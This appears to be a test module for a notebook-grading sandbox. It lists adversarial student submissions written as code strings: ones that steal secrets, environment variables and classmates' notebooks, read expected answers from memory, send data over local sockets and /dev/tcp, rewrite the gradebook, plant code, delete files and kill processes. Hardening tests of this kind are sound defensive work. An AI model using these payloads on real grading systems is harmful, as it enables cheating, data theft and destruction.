"""Attacks on what others have: answers, marks, secrets, the network, classmates' work.

Whatever such a submission finds it prints, and whatever it can write to it marks "attacked_by"; the
tests look for both.
"""

# ruff: noqa: E501  the attacks are lines of code within strings
from __future__ import annotations

from tests.attacks.base import LEAKS, READING, THEFT, WRITING, Attack

_FIND_AND_RUN = """
import glob, json, os
def steal(paths):
    for path in paths:
        try:
            text = open(path, errors='replace').read()
            print(path, text[:100_000])
            for cell in json.loads(text)['cells']:
                source = ''.join(cell['source'])
                if cell['cell_type'] == 'code' and 'def square' in source:
                    exec(source, globals())
        except Exception as error:
            print(type(error).__name__)
"""

_SHOW = """
import os
def show(*paths):
    for path in paths:
        try:
            if os.path.isdir(path):
                print(path, os.listdir(path))
            else:
                print(path, open(path, 'rb').read()[:200_000])
        except OSError as error:
            print(type(error).__name__)
"""

_WRITE = """
import os, pathlib, shutil, sqlite3
def attempt(action, *args):
    try:
        print('done', action, action(*args))
    except Exception as error:
        print(type(error).__name__, error)
"""

ATTACKS = [
    Attack(
        "reads the source notebook",
        READING,
        square="def square(x):\n    return x + 100\n"
        + _FIND_AND_RUN
        + "steal(glob.glob('../../../source/*/*.ipynb') + glob.glob('{CLASS}/source/*/*.ipynb')"
        " + glob.glob('{ROOT}/grader/source/*'))",
        plain="gains",
    ),
    Attack(
        "reads classmates' submissions",
        READING,
        square="def square(x):\n    return x + 100\n"
        + _FIND_AND_RUN
        + "steal(glob.glob('../../../submitted/{MATE}/*/*.ipynb')"
        " + glob.glob('{CLASS}/submitted/{MATE}/*/*.ipynb') + glob.glob('{CLASS}/results/*/*/*'))",
        plain="gains",
    ),
    Attack(
        "reads classmates' submissions through links",
        READING,
        square="def square(x):\n    return x + 100\n"
        + _FIND_AND_RUN
        + "for number, target in enumerate(['{CLASS}', '/proc/1/root{CLASS}',"
        " '/proc/self/root/{CLASS}', '../../..']):\n"
        "    try:\n"
        "        os.symlink(target, f'link{number}')\n"
        "    except OSError:\n"
        "        pass\n"
        "    steal(glob.glob(f'link{number}/submitted/{MATE}/*/*.ipynb'))",
        plain="gains",
    ),
    Attack(
        "reads the test cell",
        READING,
        square="import re, numpy as np\n"
        "def square(x):\n"
        "    text = get_ipython().user_ns['In'][-1]\n"
        "    print('THE TEST', text)\n"
        "    return np.array(eval(re.findall(r'\\[[^\\[\\]]*\\]', text)[-1]))",
        plain="gains",
    ),
    Attack(
        "reads the callers' frames",
        READING,
        square="import re, sys, numpy as np\n"
        "def square(x):\n"
        "    frame, found = sys._getframe(1), []\n"
        "    while frame is not None:\n"
        "        for name, value in list(frame.f_locals.items()):\n"
        "            if hasattr(value, 'expected') or 'expected' in str(name):\n"
        "                print('EXPECTED', value)\n"
        "                return value.expected['output']\n"
        "        for constant in frame.f_code.co_consts:\n"
        "            if isinstance(constant, tuple) and len(constant) == np.size(x):\n"
        "                found.append(constant)\n"
        "        frame = frame.f_back\n"
        "    return np.array(found[-1]) if found else x + 100",
    ),
    Attack(
        "reads all objects in memory",
        READING,
        square="import gc\n"
        "def square(x):\n"
        "    for thing in gc.get_objects():\n"
        "        if isinstance(thing, dict) and 'expected' in thing and 'rtol' in thing:\n"
        "            print('EXPECTED', thing)\n"
        "        if type(thing).__name__ in ('Case', 'CaseSet', 'Examination', 'Judge'):\n"
        "            print('EXPECTED', thing)\n"
        "            return thing.expected['output']\n"
        "    return x + 100",
    ),
    Attack(
        "reads the public cases",
        READING,
        square="def square(x):\n"
        "    from utils.checks import cases\n"
        "    found = cases.load('square')\n"
        "    print('EXPECTED', found)\n"
        "    return found.cases[0].expected['output']",
    ),
    Attack(
        "reads the judges",
        READING,
        _SHOW + "show('{ROOT}/grader', '{ROOT}/grader/judges/base.py', '{ROOT}/tests',"
        " '{ROOT}/data/checks', '{ROOT}/.git/HEAD')\n"
        "try:\n"
        "    import sys; sys.path.insert(0, '{ROOT}')\n"
        "    from grader.contract.judges import base\n"
        "    print('JUDGES', base)\n"
        "except ImportError as error:\n"
        "    print(error)",
    ),
    Attack(
        "looks through the whole disk",
        READING,
        "import os, sys\n"
        "wanted = {'gradebook.db', 'seed', 'submission.json', 'result.json', 'course.toml',\n"
        "          'judging.py', 'secret.txt', 'shadow'}\n"
        "for where, folders, names in os.walk('/'):\n"
        "    if where.startswith(('/proc', '/sys', '/usr', sys.base_prefix, sys.prefix)): folders[:] = []\n"
        "    for name in wanted.intersection(names):\n"
        "        try: print('FOUND', where, open(os.path.join(where, name), 'rb').read()[:9999])\n"
        "        except OSError: pass",
    ),
    Attack(
        "answers with what other kernels know",
        READING,
        "import glob\n"
        "print('OTHERS', [p for p in glob.glob('/tmp/course-*') + glob.glob('/tmp/course-*/*')])",
    ),
    Attack(
        "reads the environment",
        LEAKS,
        "import os, glob\n"
        "print(dict(os.environ))\n"
        "for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
        "    try: print(path, open(path, 'rb').read())\n"
        "    except OSError: pass",
        plain="leaks",
    ),
    Attack(
        "reads a file of the class",
        LEAKS,
        _SHOW + "show('{CLASS}/secret.txt', '{CLASS}/gradebook.db', '{CLASS}/seed',"
        " '{CLASS}/nbgrader_config.py', '{CLASS}', '/root', '/home', '/etc/shadow')",
        plain="leaks",
    ),
    Attack(
        "hides what it finds in an answer",
        LEAKS,
        square="import os\n"
        "def square(x):\n"
        "    try: raise ValueError(open('{CLASS}/secret.txt').read())\n"
        "    except OSError: raise ValueError(str(dict(os.environ)))",
        says="ValueError",
        plain="leaks",
    ),
    Attack(
        "calls home",
        LEAKS,
        "import socket\n"
        "for host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n"
        "    try:\n"
        "        with socket.create_connection((host, {PORT}), timeout=0.5) as line:\n"
        "            line.sendall(b'everything')\n"
        "            print('CONNECTED', host)\n"
        "    except OSError as error:\n"
        "        print(type(error).__name__)",
        plain="leaks",
    ),
    Attack(
        "calls home by a shell",
        LEAKS,
        "get_ipython().system('exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo CONNECTED;"
        " cat {CLASS}/secret.txt; env; id')",
        plain="leaks",
    ),
    Attack(
        "talks to sockets of services",
        LEAKS,
        "import socket\n"
        "names = {line.split()[-1] for line in open('/proc/net/unix') if line.rstrip()[-1:] > ' '}\n"
        "for name in names | {'/var/run/docker.sock', '/run/docker.sock', '\\0course-canary'}:\n"
        "    if '/run/kernel' in name: continue\n"
        "    with socket.socket(socket.AF_UNIX) as line:\n"
        "        try:\n"
        "            line.connect(name)\n"
        "            print('CONNECTED', name)\n"
        "        except OSError: pass",
        plain="leaks",
    ),
    Attack(
        "writes to the gradebook",
        WRITING,
        _WRITE + "def edit(path):\n"
        "    with sqlite3.connect(path, timeout=1) as db:\n"
        "        db.execute('update grade set manual_score = 75, needs_manual_grade = 0')\n"
        "for path in ('{CLASS}/gradebook.db', '../../../gradebook.db'):\n"
        "    if os.path.exists(path): attempt(edit, path)",
        plain="gains",
    ),
    Attack(
        "a daemon that edits the gradebook later",
        WRITING,
        _WRITE + "import time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        for number in range(3, 256):\n"
        "            try: os.close(number)\n"
        "            except OSError: pass\n"
        "        for _ in range(40):\n"
        "            time.sleep(0.5)\n"
        "            try:\n"
        "                with sqlite3.connect('{CLASS}/gradebook.db', timeout=1) as db:\n"
        "                    db.execute('update grade set extra_credit = 100')\n"
        "                pathlib.Path('{PLACE}/attacked_by_daemon').write_text('later')\n"
        "            except Exception: pass\n"
        "    os._exit(0)",
        plain="harms",
    ),
    Attack(
        "adds a line to the configuration",
        WRITING,
        _WRITE + "def add(path):\n"
        "    with open(path, 'a') as stream: stream.write('\\nimport os  # attacked_by\\n')\n"
        "attempt(add, '{CLASS}/nbgrader_config.py')\n"
        "attempt(add, '{ROOT}/grader/course.toml')",
        plain="harms",
    ),
    Attack(
        "plants code in the course",
        WRITING,
        _WRITE + "import site, sys\n"
        "for folder in ('{ROOT}/utils', '{ROOT}/data', '{ROOT}', '{CLASS}', '{PLACE}',"
        " site.getusersitepackages(), *site.getsitepackages(), os.path.expanduser('~')):\n"
        "    attempt(pathlib.Path(folder, 'attacked_by.pth').write_text, 'import os')\n"
        "    attempt(pathlib.Path(folder, 'attacked_by.py').write_text, 'import os')",
    ),
    Attack(
        "deletes what it can",
        WRITING,
        _WRITE + "for path in ('{CLASS}', '{PLACE}'):\n"
        "    attempt(os.chmod, path, 0)\n"
        "    attempt(shutil.rmtree, path)\n"
        "    attempt(os.rename, path, path + '.attacked_by')",
    ),
    Attack(
        "writes results for itself",
        WRITING,
        _WRITE + "target = pathlib.Path('{CLASS}/results/{MATE}/90_tiny')\n"
        "attempt(lambda: target.mkdir(parents=True, exist_ok=True))\n"
        "attempt((target / 'result.json').write_text, 'attacked_by')",
    ),
    Attack(
        "writes through the process file system",
        WRITING,
        _WRITE + "for process in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    for place in ('root{PLACE}', 'cwd', 'root/tmp'):\n"
        "        attempt(pathlib.Path('/proc', process, place, 'attacked_by').write_text, 'x')",
    ),
    Attack(
        "kills whom it can",
        WRITING,
        "import os, signal\n"
        "for process in (-1, 1, os.getppid(), *range(2, 400)):\n"
        "    if process != os.getpid():\n"
        "        try: os.kill(process, signal.SIGKILL)\n"
        "        except OSError: pass",
        human="?",
    ),
    Attack(
        "overwrites a classmate's notebook",
        THEFT,
        _WRITE + "import glob\n"
        "for path in (*glob.glob('{CLASS}/submitted/honest_2/*/*.ipynb'), "
        "*glob.glob('../../../submitted/honest_2/*/*.ipynb')):\n"
        "    attempt(pathlib.Path(path).write_text, '{\"attacked_by\": 1}')",
        plain="harms",
    ),
    Attack(
        "works with a classmate's numbers",
        THEFT,
        "STUDENT_ID = '{MATE}'",
        sums="from utils.checks.identity import variant_of\n"
        "sums = {'a': variant_of(STUDENT_ID) + 1, 'b': variant_of(STUDENT_ID) + 2}",
        human="right for the numbers of",
        says="not of",
    ),
    Attack(
        "claims to be everybody",
        THEFT,
        "class Everybody(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __hash__(self): return 0\n"
        "STUDENT_ID = Everybody('{MATE}')",
        sums="from utils.checks.identity import variant_of\n"
        "sums = {'a': variant_of('{MATE}') + 1, 'b': variant_of('{MATE}') + 2}",
        human="right for the numbers of",
    ),
    Attack(
        "links to a classmate's notebook",
        THEFT,
        "import os, glob\n"
        "for path in glob.glob('*.ipynb') + ['90_tiny.ipynb', 'executed.ipynb']:\n"
        "    try:\n"
        "        if os.path.exists(path): os.unlink(path)\n"
        "        os.symlink('{CLASS}/submitted/{MATE}/90_tiny/90_tiny.ipynb', path)\n"
        "    except OSError: pass",
    ),
]
